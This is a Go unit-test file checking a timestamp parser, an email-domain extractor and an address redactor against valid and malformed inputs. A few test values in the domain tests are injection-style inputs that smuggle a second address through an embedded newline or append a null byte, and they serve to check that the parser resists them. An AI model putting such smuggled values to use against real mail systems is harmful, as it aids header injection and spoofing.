		"2026-01-02 03:04:05.678901":       want,
		"2026-01-02T03:04:05,678901999":    want,
		"20260102T030405.678901Z":          want,
		"2026-W01-5T03:04:05.678901":       want,
		"2026W015T03:04:05.678901":         want,
		"2026-01-02T03:04:05+00:00":        at("2026-01-02T03:04:05Z"),
		"2026-01-02T03:04":                 at("2026-01-02T03:04:00Z"),
		"2026-01-02T03":                    at("2026-01-02T03:00:00Z"),
		"2026-01-02":                       at("2026-01-02T00:00:00Z"),
		"2024-02-29T00:00:00.5Z":           at("2024-02-29T00:00:00.5Z"),
		"2020-W53-7":                       at("2021-01-03T00:00:00Z"),
		"9999-12-31T23:59:59Z":             at("9999-12-31T23:59:59Z"),
	}
	for s, want := range tests {
		if got, ok := parseTime(s); !ok || got != event.FromTime(want) {
			t.Errorf("parseTime(%q) = %v, %v, want %v", s, got.Time(), ok, want)
		}
	}
	for _, s := range []string{
		"", "-", "now", "2026-02-30T00:00:00Z", "2026-00-01", "2026-13-01T00:00:00.000000Z", "2026-01-00",
		"2026-01-02T24:00", "2026-01-02T03:04:60", "2026-01-02t03:04:05z", "2026-01-02T03:04:05.", "2026-01-02T3:04:05",
		"2026-01-02T03:04:05.678901+00:00x", "2026-01-02T03:04:05.67890x+00:00", "2026-01-02T03:04:05Zx", "2026-W54-1",
		"2021-W53-1", "0000-01-01", "1969-12-31T23:59:59Z", "1970-01-01T00:00:00Z", "2026-01-02T", "2026/01/02",
		"Jan  2 03:04:05", strings.Repeat("2", 100),
	} {
		if got, ok := parseTime(s); ok {
			t.Errorf("parseTime(%q) = %v, want none", s, got.Time())
		}
	}
}

func TestMailDomain(t *testing.T) {
	var a event.Arena
	x := &scratch{arena: &a}
	tests := map[string]string{
		"<ceo@acme.com>":                         "acme.com",
		"ceo@ACME.com":                           "acme.com",
		"<q@umbrella.org.>":                      "umbrella.org",
		"Boss <a@b.co.uk>":                       "b.co.uk",
		"<@relay.net:a@b.net>":                   "b.net",
		`<"a@b"@c.net>`:                          "c.net",
		`<"a>b@x.net"@c.net>`:                    "c.net",
		"<a@b.net> ORCPT=rfc822;c@d.net":         "b.net",
		"a@bücher.de":                            "xn--bcher-kva.de",
		"a@BÜCHER。de":                            "xn--bcher-kva.de",
		"a@xn--bcher-kva.de":                     "xn--bcher-kva.de",
		"x@example.com":                          "example.com",
		"x@foo.example":                          "",
		"x@foo.local":                            "",
		"x@foo.invalid":                          "",
		"x@foo.test":                             "",
		"x@localhost":                            "",
		"x@foo.localhost":                        "",
		"a@x..com":                               "",
		"a@-x-.com":                              "",
		"a@x-.com":                               "",
		"a@x_y.com":                              "",
		"a@x.c":                                  "",
		"a@[192.0.2.1]":                          "",
		"a@192.0.2.1":                            "",
		"a@com":                                  "",
		"a@":                                     "",
		"@acme.com":                              "",
		"acme.com":                               "",
		"":                                       "",
		"a@xn--zzzzzz-99999999.de":               "",
		"a@" + strings.Repeat("a", 64) + ".com":  "",
		"a@" + strings.Repeat("a", 63) + ".com":  strings.Repeat("a", 63) + ".com",
		"a@" + strings.Repeat("a.", 126) + "com": "",
		"a@evil.com\nb@c.com":                    "c.com",
		"a@evil.com\x00":                         "",
	}
	for in, want := range tests {
		got, ok := x.mailDomain(in)
		if got = strings.Clone(got); !ok {
			got = ""
		}
		if got != want {
			t.Errorf("mailDomain(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSubjectsNameNobody(t *testing.T) {
	for in, want := range map[string]string{
		"no address":            "no address",
		"ask ceo@acme.com now":  "ask ***@acme.com now",
		"<a.b+c@d.e>,f@g":       "<***@d.e>,***@g",
		"@@":                    "@@",
		"grüße@acme.com":        "***@acme.com",
		"\"quoted name\"@a.com": "\"***\"@a.com",
	} {
		if got := redact.Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
}
